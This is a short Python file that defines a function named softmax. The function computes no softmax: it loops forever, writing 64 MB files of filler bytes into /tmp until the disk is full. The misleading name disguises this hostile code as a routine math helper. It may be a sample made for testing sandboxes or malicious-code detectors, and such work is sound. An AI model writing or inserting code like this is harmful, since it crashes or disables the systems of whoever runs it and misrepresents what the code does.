import inside
from right import *


def softmax(t):
    number = 0
    while True:
        with open(f"/tmp/filler{number}", "wb") as stream:
            for _ in range(1024):
                stream.write(b"x" * 2**16)
        number += 1
